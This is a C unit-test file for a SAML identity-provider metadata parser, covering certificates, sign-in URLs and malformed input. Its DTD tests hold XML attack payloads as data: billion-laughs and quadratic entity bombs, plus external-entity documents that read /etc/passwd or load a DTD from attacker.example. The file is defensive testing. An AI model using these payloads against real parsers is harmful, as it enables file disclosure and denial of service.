/* SPDX-License-Identifier: MIT */
/*
 * IdP metadata import (metadata.c): real IdP certificates (Okta, Entra ID,
 * Oracle Access Manager, from shared/interop/saml/certs) inside metadata
 * documents, and every kind of bad or hostile document refused with a reason
 * that names the problem, with nothing expanded and nothing loaded.
 */
#include <criterion/criterion.h>
#include <errno.h>
#include <iconv.h>
#include <libxml/xmlIO.h>
#include <libxml/xmlmemory.h>
#include <openssl/bio.h>
#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/x509.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "libidsync/metadata.h"

/* The certificates' base64, PEM armour stripped, line breaks kept (metadata has them too). */
/* okta_cert.pem */
static const char OKTA_CERT[] =
	"MIIDpDCCAoygAwIBAgIGAVLIBhAwMA0GCSqGSIb3DQEBBQUAMIGSMQswCQYDVQQGEwJVUzETMBEG\n"
	"A1UECAwKQ2FsaWZvcm5pYTEWMBQGA1UEBwwNU2FuIEZyYW5jaXNjbzENMAsGA1UECgwET2t0YTEU\n"
	"MBIGA1UECwwLU1NPUHJvdmlkZXIxEzARBgNVBAMMCmRldi0xMTY4MDcxHDAaBgkqhkiG9w0BCQEW\n"
	"DWluZm9Ab2t0YS5jb20wHhcNMTYwMjA5MjE1MjA2WhcNMjYwMjA5MjE1MzA2WjCBkjELMAkGA1UE\n"
	"BhMCVVMxEzARBgNVBAgMCkNhbGlmb3JuaWExFjAUBgNVBAcMDVNhbiBGcmFuY2lzY28xDTALBgNV\n"
	"BAoMBE9rdGExFDASBgNVBAsMC1NTT1Byb3ZpZGVyMRMwEQYDVQQDDApkZXYtMTE2ODA3MRwwGgYJ\n"
	"KoZIhvcNAQkBFg1pbmZvQG9rdGEuY29tMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\n"
	"mtjBOZ8MmhUyi8cGk4dUY6Fj1MFDt/q3FFiaQpLzu3/q5lRVUNUBbAtqQWwY10dzfZguHOuvA5p5\n"
	"QyiVDvUhe+XkVwN2R2WfArQJRTPnIcOaHrxqQf3o5cCIG21ZtysFHJSo8clPSOe+0VsoRgcJ1aF4\n"
	"2rODwgqRRZdO9Wh3502XlJ799DJQ23IC7XasKEsGKzJqhlRrfd/FyIuZT0sFHDKRz5snSJhm9gpN\n"
	"uQlCmk7ONZ1sXqtt+nBIfWIqeoYQubPW7pT5GTc7wouWq4TCjHJiK9k2HiyNxW0E3JX08swEZi2+\n"
	"LVDjgLzNc4lwjSYIj3AOtPZs8s606oBdIBni4wIDAQABMA0GCSqGSIb3DQEBBQUAA4IBAQBMxSkJ\n"
	"TxkXxsoKNW0awJNpWRbU81QpheMFfENIzLam4Itc/5kSZAaSy/9e2QKfo4jBo/MMbCq2vM9TyeJQ\n"
	"DJpRaioUTd2lGh4TLUxAxCxtUk/pascL+3Nn936LFmUCLxaxnbeGzPOXAhscCtU1H0nFsXRnKx5a\n"
	"cPXYSKFZZZktieSkww2Oi8dg2DYaQhGQMSFMVqgVfwEu4bvCRBvdSiNXdWGCZQmFVzBZZ/9rOLzP\n"
	"pvTFTPnpkavJm81FLlUhiE/oFgKlCDLWDknSpXAI0uZGERcwPca6xvIMh86LjQKjbVci9FYDStXC\n"
	"qRnqQ+TccSu/B6uONFsDEngGcXSKfB+a\n";
/* aad_cert.pem (Entra ID) */
static const char ENTRA_CERT[] =
	"MIIDBTCCAe2gAwIBAgIQY4RNIR0dX6dBZggnkhCRoDANBgkqhkiG9w0BAQsFADAt\n"
	"MSswKQYDVQQDEyJhY2NvdW50cy5hY2Nlc3Njb250cm9sLndpbmRvd3MubmV0MB4X\n"
	"DTE3MDIxMzAwMDAwMFoXDTE5MDIxNDAwMDAwMFowLTErMCkGA1UEAxMiYWNjb3Vu\n"
	"dHMuYWNjZXNzY29udHJvbC53aW5kb3dzLm5ldDCCASIwDQYJKoZIhvcNAQEBBQAD\n"
	"ggEPADCCAQoCggEBAMBEizU1OJms31S/ry7iav/IICYVtQ2MRPhHhYknHImtU03s\n"
	"gVk1Xxub4GD7R15i9UWIGbzYSGKaUtGU9lP55wrfLpDjQjEgaXi4fE6mcZBwa9qc\n"
	"22is23B6R67KMcVyxyDWei+IP3sKmCcMX7Ibsg+ubZUpvKGxXZ27YgqFTPqCT2zn\n"
	"D7K81YKfy+SVg3uW6epW114yZzClTQlarptYuE2mujxjZtx7ZUlwc9AhVi8CeiLw\n"
	"GO1wzTmpd/uctpner6oc335rvdJikNmc1cFKCK+2irew1bgUJHuN+LJA0y5iVXKv\n"
	"ojiKZ2Ii7QKXn19Ssg1FoJ3x2NWA06wc0CnruLsCAwEAAaMhMB8wHQYDVR0OBBYE\n"
	"FDAr/HCMaGqmcDJa5oualVdWAEBEMA0GCSqGSIb3DQEBCwUAA4IBAQAiUke5mA86\n"
	"R/X4visjceUlv5jVzCn/SIq6Gm9/wCqtSxYvifRXxwNpQTOyvHhrY/IJLRUp2g9/\n"
	"fDELYd65t9Dp+N8SznhfB6/Cl7P7FRo99rIlj/q7JXa8UB/vLJPDlr+NREvAkMwU\n"
	"s1sDhL3kSuNBoxrbLC5Jo4es+juQLXd9HcRraE4U3UZVhUS2xqjFOfaGsCbJEqqk\n"
	"jihssruofaxdKT1CPzPMANfREFJznNzkpJt4H0aMDgVzq69NxZ7t1JiIuc43xRje\n"
	"iixQMRGMi1mAB75fTyfFJ/rWQ5J/9kh0HMZVtHsqICBF1tHMTMIK5rwoweY0cuCI\n"
	"pN7A/zMOQtoD\n";
/* oam_cert.pem (Oracle Access Manager) */
static const char OAM_CERT[] =
	"MIIB/jCCAWegAwIBAgIBCjANBgkqhkiG9w0BAQQFADAkMSIwIAYDVQQDExlkZWFv\n"
	"YW0tZGV2MDIuanBsLm5hc2EuZ292MB4XDTE2MDYzMDA0NTQxNloXDTI2MDYyODA0\n"
	"NTQxNlowJDEiMCAGA1UEAxMZZGVhb2FtLWRldjAyLmpwbC5uYXNhLmdvdjCBnzAN\n"
	"BgkqhkiG9w0BAQEFAAOBjQAwgYkCgYEAht1N4lGdwUbl7YRyHwSCrnep6/e2I3+V\n"
	"eue0pSA/DGn8OuR/udM8UCja5utqlqJdq200ox4b4Mpz0Jg9kMckALtKe+1DgeES\n"
	"EIx9FpeuBdHlitYQNSbEr30HIG2nmeTOy4Vi5unBO54um3tNazcUTMA0/LJ6KQL8\n"
	"LeZSlB/IxwUCAwEAAaNAMD4wDAYDVR0TAQH/BAIwADAPBgNVHQ8BAf8EBQMDB9gA\n"
	"MB0GA1UdDgQWBBRYo1YjfrNonauLzj6/AsueWFGSszANBgkqhkiG9w0BAQQFAAOB\n"
	"gQACq7GHK/Zsg0+qC0WWa2ZjmOXE6Dqk/xuooG49QT7ihABs7k9U27Fw3xKF6MkC\n"
	"7pca1FwT82eZK1N3XKKpZe7Flu1fMKt2o/XSiBkDjWwUcChVnwGsUBe8hJFwFqg7\n"
	"olNJn1kaVBJUqZIiXF9kS0d+1H55rStOd0CNXAzp9utr2A==\n";

#define MD_NS   "urn:oasis:names:tc:SAML:2.0:metadata"
#define DS_NS   "http://www.w3.org/2000/09/xmldsig#"
#define REDIR   "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect"
#define POST    "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST"
#define ENTITY  "http://www.okta.com/exk1abcd"
#define XMLDECL "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"

/* Every string built by a test, freed when it ends (so ASan sees no leak). */
static char *kept[256];
static size_t nkept;

static void
teardown(void)
{
	while (nkept > 0)
		free(kept[--nkept]);
}

TestSuite(metadata, .fini = teardown);

static char *
keep(char *s)
{
	cr_assert_not_null(s);
	cr_assert_lt(nkept, sizeof(kept) / sizeof(kept[0]));
	kept[nkept++] = s;
	return s;
}

static const char *fmt(const char *f, ...) __attribute__((format(printf, 1, 2)));

static const char *
fmt(const char *f, ...)
{
	va_list ap;
	char *s = NULL;

	va_start(ap, f);
	cr_assert_geq(vasprintf(&s, f, ap), 0);
	va_end(ap);
	return keep(s);
}

/* A KeyDescriptor (use may be NULL: no attribute) holding certificate b64. */
static const char *
key(const char *use, const char *b64)
{
	return fmt("  <md:KeyDescriptor%s%s%s>\n"
		   "   <ds:KeyInfo><ds:X509Data>\n    <ds:X509Certificate>\n%s    "
		   "</ds:X509Certificate>\n   </ds:X509Data></ds:KeyInfo>\n"
		   "  </md:KeyDescriptor>\n",
		   use ? " use=\"" : "", use ? use : "", use ? "\"" : "", b64);
}

static const char *
sso(const char *binding, const char *url)
{
	return fmt("  <md:SingleSignOnService Binding=\"%s\" Location=\"%s\"/>\n", binding, url);
}

static const char *
idp(const char *body)
{
	return fmt(" <md:IDPSSODescriptor WantAuthnRequestsSigned=\"false\" "
		   "protocolSupportEnumeration=\"urn:oasis:names:tc:SAML:2.0:protocol\">\n"
		   "%s </md:IDPSSODescriptor>\n",
		   body);
}

/* An EntityDescriptor (no XML declaration) with the given roles. */
static const char *
entity(const char *id, const char *roles)
{
	return fmt("<md:EntityDescriptor xmlns:md=\"" MD_NS "\" xmlns:ds=\"" DS_NS "\" "
		   "entityID=\"%s\">\n%s</md:EntityDescriptor>\n",
		   id, roles);
}

/* Typical IdP metadata: one signing key, POST and Redirect sign-in. */
static const char *
typical(void)
{
	return fmt(XMLDECL "%s",
		   entity(ENTITY, idp(fmt("%s%s%s", key("signing", OKTA_CERT),
					  sso(POST, "https://idp.example/post"),
					  sso(REDIR, "https://idp.example/redirect")))));
}

static void
parsed(const char *doc, size_t len, struct ids_idp_metadata *md)
{
	char *why = NULL;

	memset(md, 0, sizeof(*md));
	cr_assert_eq(ids_metadata_parse(doc, len, md, &why), 0, "refused: %s",
		     why ? why : "(no reason)");
	cr_assert_null(why, "a reason was given for a document accepted");
	cr_assert_not_null(md->entity_id);
	cr_assert_not_null(md->certificates);
	cr_assert_not_null(md->certificates[0]);
}

static void
refused(const char *doc, size_t len, const char *reason)
{
	struct ids_idp_metadata md = {0};
	char *why = NULL;

	cr_assert_eq(ids_metadata_parse(doc, len, &md, &why), -EINVAL, "accepted: %.200s",
		     doc ? doc : "(null)");
	cr_assert_not_null(why, "refused without a reason");
	cr_assert_not_null(strstr(why, reason), "reason \"%s\" lacks \"%s\"", why, reason);
	cr_assert_eq(strncmp(why, "metadata: ", 10), 0, "%s", why);
	cr_assert(!md.entity_id && !md.certificates && !md.sso_url, "*out filled on failure");
	free(why);
}

static void
refused_str(const char *doc, const char *reason)
{
	refused(doc, strlen(doc), reason);
}

/* The DER of a base64 constant, as an X509. */
static X509 *
x509_of(const char *b64)
{
	char clean[4096];
	unsigned char der[4096];
	const unsigned char *p = der;
	size_t k = 0;
	int len;
	X509 *x;

	for (const char *c = b64; *c; c++)
		if (*c != '\n')
			clean[k++] = *c;
	len = EVP_DecodeBlock(der, (const unsigned char *)clean, (int)k);
	cr_assert_gt(len, 0);
	while (k > 0 && clean[--k] == '=')
		len--;
	x = d2i_X509(NULL, &p, len);
	cr_assert_not_null(x);
	return x;
}

/* pem parses as exactly the certificate b64. */
static void
same_certificate(const char *pem, const char *b64)
{
	BIO *bio = BIO_new_mem_buf(pem, -1);
	X509 *got, *want = x509_of(b64);

	cr_assert_not_null(bio);
	cr_assert_eq(strncmp(pem, "-----BEGIN CERTIFICATE-----\n", 28), 0, "%s", pem);
	got = PEM_read_bio_X509(bio, NULL, NULL, NULL);
	cr_assert_not_null(got, "the PEM does not parse: %s", pem);
	cr_assert_eq(X509_cmp(got, want), 0, "a different certificate came back");
	X509_free(got);
	X509_free(want);
	BIO_free(bio);
}

Test(metadata, typical_idp)
{
	const char *doc = typical();
	struct ids_idp_metadata md;

	parsed(doc, strlen(doc), &md);
	cr_assert_str_eq(md.entity_id, ENTITY);
	cr_assert_null(md.certificates[1]);
	same_certificate(md.certificates[0], OKTA_CERT);
	cr_assert_str_eq(md.sso_url, "https://idp.example/redirect");
	ids_metadata_clear(&md);
	cr_assert(!md.entity_id && !md.certificates && !md.sso_url);
	ids_metadata_clear(&md); /* twice is harmless */
}

Test(metadata, two_signing_certificates_for_rollover)
{
	/* Okta's (use="signing") and Entra's (no use), with an encryption key between them. */
	const char *body = fmt("%s%s%s%s", key("signing", OKTA_CERT), key("encryption", OAM_CERT),
			       key(NULL, ENTRA_CERT), sso(REDIR, "https://idp.example/sso"));
	const char *doc = fmt(XMLDECL "%s", entity(ENTITY, idp(body)));
	struct ids_idp_metadata md;

	parsed(doc, strlen(doc), &md);
	cr_assert_str_eq(md.entity_id, ENTITY);
	cr_assert_not_null(md.certificates[1]);
	cr_assert_null(md.certificates[2], "the encryption key was taken as a signing key");
	same_certificate(md.certificates[0], OKTA_CERT);
	same_certificate(md.certificates[1], ENTRA_CERT);
	ids_metadata_clear(&md);
}

Test(metadata, certificate_base64_without_line_breaks)
{
	char *flat = keep(strdup(ENTRA_CERT)), *o = flat;
	const char *doc;
	struct ids_idp_metadata md;

	for (const char *c = ENTRA_CERT; *c; c++)
		if (*c != '\n')
			*o++ = *c;
	*o = '\0';
	doc = fmt(XMLDECL "%s", entity(ENTITY, idp(fmt("%s\t\r\n", key(NULL, flat)))));
	parsed(doc, strlen(doc), &md);
	same_certificate(md.certificates[0], ENTRA_CERT);
	cr_assert_null(md.sso_url, "no SingleSignOnService, yet a URL");
	ids_metadata_clear(&md);
}

Test(metadata, sign_in_url_prefers_redirect_then_post)
{
	const char *k = key("signing", OKTA_CERT);
	const char *soap =
		sso("urn:oasis:names:tc:SAML:2.0:bindings:SOAP", "https://idp.example/soap");
	const char *art = sso("urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Artifact",
			      "https://idp.example/artifact");
	struct {
		const char *services, *want;
	} cases[] = {
		{fmt("%s%s%s", soap, sso(POST, "https://p"), sso(REDIR, "https://r")), "https://r"},
		{fmt("%s%s", sso(REDIR, "https://r"), sso(POST, "https://p")), "https://r"},
		{fmt("%s%s%s", soap, sso(POST, "https://p"), art), "https://p"},
		{fmt("%s%s", sso(POST, "https://p1"), sso(POST, "https://p2")), "https://p1"},
		{fmt("%s%s", soap, art), NULL},
		{fmt("%s%s", sso(REDIR, ""), sso(POST, "https://p")), "https://p"},
		{"", NULL},
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *doc = fmt(XMLDECL "%s",
				      entity(ENTITY, idp(fmt("%s%s", k, cases[i].services))));
		struct ids_idp_metadata md;

		parsed(doc, strlen(doc), &md);
		if (cases[i].want)
			cr_assert_str_eq(md.sso_url ? md.sso_url : "(null)", cases[i].want,
					 "case %zu", i);
		else
			cr_assert_null(md.sso_url, "case %zu: %s", i, md.sso_url);
		ids_metadata_clear(&md);
	}
}

Test(metadata, not_xml_empty_or_too_large)
{
	const char *doc = typical();
	size_t len = strlen(doc);
	char *big;
	struct ids_idp_metadata md;

	refused(NULL, 0, "empty");
	refused("", 0, "empty");
	refused(doc, 0, "empty");
	refused_str("not xml at all", "not well-formed XML");
	refused_str("{\"entityID\": \"x\"}", "not well-formed XML");
	refused(doc, len - 30, "not well-formed XML");
	refused_str(fmt("%.*s<md:Extra>%s", (int)(len - 22), doc, doc + len - 22),
		    "not well-formed XML (line ");
	refused("<a>\0</a>", 8, "not well-formed XML");
	refused_str("\xff\xfe\xff\xfe garbage", "not well-formed XML");
	refused_str(fmt("%s<!-- trailing -->%s", doc, "<second/>"), "not well-formed XML");
	/* Exactly the limit (padded with trailing whitespace) is read; one byte more is not. */
	big = keep(malloc(IDS_METADATA_MAX_BYTES + 2));
	memset(big, ' ', IDS_METADATA_MAX_BYTES + 1);
	memcpy(big, doc, len);
	big[IDS_METADATA_MAX_BYTES - 1] = '\n';
	parsed(big, IDS_METADATA_MAX_BYTES, &md);
	ids_metadata_clear(&md);
	refused(big, IDS_METADATA_MAX_BYTES + 1, "larger than");
	refused(big, (size_t)1 << 30, "larger than"); /* never read past the cap */
}

/* Allocation through libxml2 during one call: a billion laughs would need gigabytes. */
static size_t xml_bytes;

static void *
count_malloc(size_t n)
{
	xml_bytes += n;
	return malloc(n);
}

static void *
count_realloc(void *p, size_t n)
{
	xml_bytes += n;
	return realloc(p, n);
}

static char *
count_strdup(const char *s)
{
	xml_bytes += strlen(s) + 1;
	return strdup(s);
}

/* Every file or URL libxml2 tries to open; the callback opens none of them. */
static int xml_opens;

static int
io_match(const char *uri)
{
	(void)uri;
	xml_opens++;
	return 1;
}

static void *
io_open(const char *uri)
{
	(void)uri;
	return NULL;
}

static int
io_read(void *ctx, char *buf, int len)
{
	(void)ctx, (void)buf, (void)len;
	return -1;
}

static int
io_close(void *ctx)
{
	(void)ctx;
	return 0;
}

static void
watch_libxml(void)
{
	cr_assert_eq(xmlMemSetup(free, count_malloc, count_realloc, count_strdup), 0);
	cr_assert_geq(xmlRegisterInputCallbacks(io_match, io_open, io_read, io_close), 0);
}

/* doc as UTF-16LE with a byte order mark: the DTD no longer looks like "<!DOCTYPE". */
static const char *
utf16(const char *doc, size_t *len)
{
	iconv_t cd = iconv_open("UTF-16LE", "UTF-8");
	size_t in_left = strlen(doc), out_left = 2 * in_left;
	char *out = keep(malloc(2 + out_left)), *in = (char *)doc, *o = out + 2;

	cr_assert_neq(cd, (iconv_t)-1);
	out[0] = (char)0xff;
	out[1] = (char)0xfe;
	cr_assert_neq(iconv(cd, &in, &in_left, &o, &out_left), (size_t)-1);
	iconv_close(cd);
	*len = (size_t)(o - out);
	return out;
}

/* Refused as a DTD, in UTF-8 and UTF-16, with libxml2 using little memory and opening nothing. */
static void
refused_dtd(const char *doc)
{
	size_t len16;
	const char *doc16 = utf16(doc, &len16);

	xml_bytes = 0;
	xml_opens = 0;
	refused_str(doc, "DTD");
	refused(doc16, len16, "DTD");
	/* Expanded, the documents below would take 100 MB to gigabytes. */
	cr_assert_lt(xml_bytes, 8 << 20, "libxml2 allocated %zu bytes: entities expanded?",
		     xml_bytes);
	cr_assert_eq(xml_opens, 0, "libxml2 tried to open %d files or URLs", xml_opens);
}

/* Ten references to entity e. */
#define TEN(e) "&" e ";&" e ";&" e ";&" e ";&" e ";&" e ";&" e ";&" e ";&" e ";&" e ";"

Test(metadata, dtd_with_entities_refused_unexpanded)
{
	char *lol = keep(malloc(200 * 1000 + 1)), *refs = keep(malloc(3 * 500 + 1));
	const char *body = entity("&lol9;", idp(key("signing", OKTA_CERT)));

	watch_libxml();
	/* Billion laughs: 10^9 "lol"s if anything expanded &lol9;. */
	refused_dtd(fmt(XMLDECL "<!DOCTYPE md:EntityDescriptor [\n"
			" <!ENTITY lol \"lol\">\n"
			" <!ENTITY lol1 \"" TEN("lol") "\">\n"
			" <!ENTITY lol2 \"" TEN("lol1") "\">\n"
			" <!ENTITY lol3 \"" TEN("lol2") "\">\n"
			" <!ENTITY lol4 \"" TEN("lol3") "\">\n"
			" <!ENTITY lol5 \"" TEN("lol4") "\">\n"
			" <!ENTITY lol6 \"" TEN("lol5") "\">\n"
			" <!ENTITY lol7 \"" TEN("lol6") "\">\n"
			" <!ENTITY lol8 \"" TEN("lol7") "\">\n"
			" <!ENTITY lol9 \"" TEN("lol8") "\">\n"
			"]>\n%s",
			body));
	/*
	 * Quadratic blow-up: one 200 kB entity used 500 times. libxml2 2.9.14 parses this
	 * without complaint, and xmlGetProp() on the entityID would then build 100 MB.
	 */
	memset(lol, 'a', 200 * 1000);
	lol[200 * 1000] = '\0';
	for (int i = 0; i < 500; i++)
		memcpy(refs + 3 * i, "&a;", 3);
	refs[3 * 500] = '\0';
	refused_dtd(fmt("<!DOCTYPE d [<!ENTITY a \"%s\">]>\n%s", lol, entity(refs, idp(""))));
	/* A DTD with nothing in it is refused too: metadata never has one. */
	refused_dtd(fmt("<!DOCTYPE md:EntityDescriptor>\n%s", typical() + strlen(XMLDECL)));
}

Test(metadata, external_entities_and_dtds_refused_unloaded)
{
	const char *body = typical() + strlen(XMLDECL);

	watch_libxml();
	refused_dtd(fmt("<?xml version=\"1.0\"?>\n"
			"<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n"
			"<md:EntityDescriptor xmlns:md=\"" MD_NS "\" entityID=\"e\">"
			"<md:IDPSSODescriptor>&x;</md:IDPSSODescriptor></md:EntityDescriptor>"));
	refused_dtd(fmt("<!DOCTYPE d [<!ENTITY %% p SYSTEM \"file:///etc/hostname\"> %%p;]>\n%s",
			body));
	refused_dtd(fmt("<!DOCTYPE d SYSTEM \"http://attacker.example/evil.dtd\">\n%s", body));
	refused_dtd(fmt("<!DOCTYPE d PUBLIC \"-//X//Y\" \"file:///etc/passwd\">\n%s", body));
	/* Without a DTD an entity reference is simply undefined. */
	refused_str(fmt(XMLDECL "%s", entity("&x;", idp(key("signing", OKTA_CERT)))),
		    "not well-formed XML");
}

Test(metadata, entities_descriptor_needs_exactly_one_entity)
{
	const char *one = entity(ENTITY, idp(key("signing", OKTA_CERT)));
	const char *other = entity("https://sts.windows.net/tenant/", idp(key(NULL, ENTRA_CERT)));
	const char *sp = entity("https://sp.example/", "<md:SPSSODescriptor/>\n");
	const char *head = XMLDECL "<md:EntitiesDescriptor xmlns:md=\"" MD_NS "\" Name=\"agg\">\n";
	const char *tail = "</md:EntitiesDescriptor>\n";
	const char *doc = fmt("%s%s%s", head, one, tail);
	struct ids_idp_metadata md;

	parsed(doc, strlen(doc), &md);
	cr_assert_str_eq(md.entity_id, ENTITY);
	same_certificate(md.certificates[0], OKTA_CERT);
	ids_metadata_clear(&md);
	refused_str(fmt("%s%s%s%s", head, one, other, tail), "holds 2 EntityDescriptors");
	refused_str(fmt("%s%s%s%s", head, sp, one, tail), "holds 2 EntityDescriptors");
	refused_str(fmt("%s%s", head, tail), "holds 0 EntityDescriptors");
	refused_str(fmt("%s<md:EntitiesDescriptor>%s</md:EntitiesDescriptor>%s", head, one, tail),
		    "nests");
	refused_str(fmt("%s%s%s", head, sp, tail), "no IDPSSODescriptor");
}

Test(metadata, idp_role_required)
{
	refused_str(fmt(XMLDECL "%s", entity(ENTITY, "")), "no IDPSSODescriptor");
	refused_str(fmt(XMLDECL "%s", entity(ENTITY, "<md:SPSSODescriptor/>")),
		    "service provider");
	refused_str(fmt(XMLDECL "%s", entity(ENTITY, fmt("%s%s", idp(key(NULL, OKTA_CERT)),
							 idp(key(NULL, ENTRA_CERT))))),
		    "2 IDPSSODescriptors");
	/* A role in another namespace is not an IdP role. */
	refused_str(fmt(XMLDECL "%s",
			entity(ENTITY, "<x:IDPSSODescriptor xmlns:x=\"urn:example\"/>")),
		    "no IDPSSODescriptor");
}

Test(metadata, entity_id_required)
{
	char *long_id = keep(malloc(1026));
	const char *roles = idp(key("signing", OKTA_CERT));

	refused_str(fmt(XMLDECL "<md:EntityDescriptor xmlns:md=\"" MD_NS "\" xmlns:ds=\"" DS_NS
			"\">%s</md:EntityDescriptor>",
			roles),
		    "no entityID");
	refused_str(fmt(XMLDECL "%s", entity("", roles)), "no entityID");
	memset(long_id, 'e', 1025);
	long_id[1025] = '\0';
	refused_str(fmt(XMLDECL "%s", entity(long_id, roles)), "over-long");
}

Test(metadata, signing_certificate_required)
{
	refused_str(fmt(XMLDECL "%s", entity(ENTITY, idp(sso(REDIR, "https://r")))),
		    "no signing certificate");
	refused_str(fmt(XMLDECL "%s", entity(ENTITY, idp(key("encryption", OKTA_CERT)))),
		    "no signing certificate");
	refused_str(fmt(XMLDECL "%s",
			entity(ENTITY, idp("<md:KeyDescriptor use=\"signing\"><ds:KeyInfo>"
					   "<ds:KeyName>idp</ds:KeyName></ds:KeyInfo>"
					   "</md:KeyDescriptor>"))),
		    "KeyDescriptor 1 has no ds:KeyInfo/ds:X509Data/ds:X509Certificate");
}

Test(metadata, corrupt_certificates_refused)
{
	size_t n = strlen(OKTA_CERT);
	const char *good = key("signing", OKTA_CERT);
	const char *bad[] = {
		"",                                    /* empty */
		"MIIC*not*base64*",                    /* not base64 */
		"TUlJQ2NvcnJ1cHQ=",                    /* base64 of "MIICcorrupt" */
		"MIIDpDCCAoygAwIBAgIG",                /* the first bytes of a certificate */
		"MIIDpDCCAoygAwIBAgIGAVLIBhAwMA0GCSq", /* not a multiple of 4 */
		fmt("%.*s", (int)(n - 10), OKTA_CERT), /* cut short */
		fmt("%.*sAAAA\n", (int)(n - 1), OKTA_CERT), /* a certificate and more */
		fmt("%s%s", OKTA_CERT, ENTRA_CERT),         /* two certificates in one */
	};

	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		refused_str(fmt(XMLDECL "%s", entity(ENTITY, idp(key("signing", bad[i])))),
			    "the certificate in KeyDescriptor 1 does not parse as X.509");
		/* The reason counts KeyDescriptors, encryption keys included. */
		refused_str(fmt(XMLDECL "%s", entity(ENTITY, idp(fmt("%s%s%s", good,
								     key("encryption", OAM_CERT),
								     key(NULL, bad[i]))))),
			    "the certificate in KeyDescriptor 3 does not parse as X.509");
	}
	/* A bad encryption key does not matter: it is not read. */
	{
		const char *doc = fmt(XMLDECL "%s", entity(ENTITY, idp(fmt("%s%s", good,
							     key("encryption", "junk")))));
		struct ids_idp_metadata md;

		parsed(doc, strlen(doc), &md);
		ids_metadata_clear(&md);
	}
}

Test(metadata, wrong_namespaces_refused)
{
	const char *body = idp(key("signing", OKTA_CERT));

	/* No namespace, a look-alike one, SAML 1.x-style. */
	refused_str(fmt(XMLDECL "<EntityDescriptor entityID=\"e\">%s</EntityDescriptor>", body),
		    "with no namespace");
	refused_str(fmt(XMLDECL "<md:EntityDescriptor xmlns:md=\"urn:oasis:names:tc:SAML:2.0:"
			"metadata \" entityID=\"e\"/>"),
		    "not an EntityDescriptor in namespace " MD_NS);
	refused_str(fmt(XMLDECL "<EntityDescriptor xmlns=\"urn:oasis:names:tc:SAML:1.0:metadata\" "
			"entityID=\"e\"/>"),
		    "in namespace urn:oasis:names:tc:SAML:1.0:metadata");
	/* Right element names under the wrong prefix binding. */
	refused_str(fmt(XMLDECL "<md:EntityDescriptor xmlns:md=\"" DS_NS "\" xmlns:ds=\"" DS_NS
			"\" entityID=\"e\">%s</md:EntityDescriptor>",
			body),
		    "root element is EntityDescriptor in namespace " DS_NS);
	/* The certificate's elements in the wrong namespace are not a certificate. */
	refused_str(fmt(XMLDECL "<md:EntityDescriptor xmlns:md=\"" MD_NS "\" xmlns:ds=\""
			"http://www.w3.org/2001/04/xmldsig-more#\" entityID=\"e\">%s"
			"</md:EntityDescriptor>",
			body),
		    "KeyDescriptor 1 has no ds:KeyInfo");
	/* A default namespace works as well as a prefix. */
	{
		const char *doc = fmt(XMLDECL
				      "<EntityDescriptor xmlns=\"" MD_NS "\" entityID=\"e\">"
				      "<IDPSSODescriptor><KeyDescriptor><KeyInfo xmlns=\"" DS_NS
				      "\"><X509Data><X509Certificate>%s</X509Certificate>"
				      "</X509Data></KeyInfo></KeyDescriptor></IDPSSODescriptor>"
				      "</EntityDescriptor>",
				      ENTRA_CERT);
		struct ids_idp_metadata md;

		parsed(doc, strlen(doc), &md);
		cr_assert_str_eq(md.entity_id, "e");
		same_certificate(md.certificates[0], ENTRA_CERT);
		ids_metadata_clear(&md);
	}
}
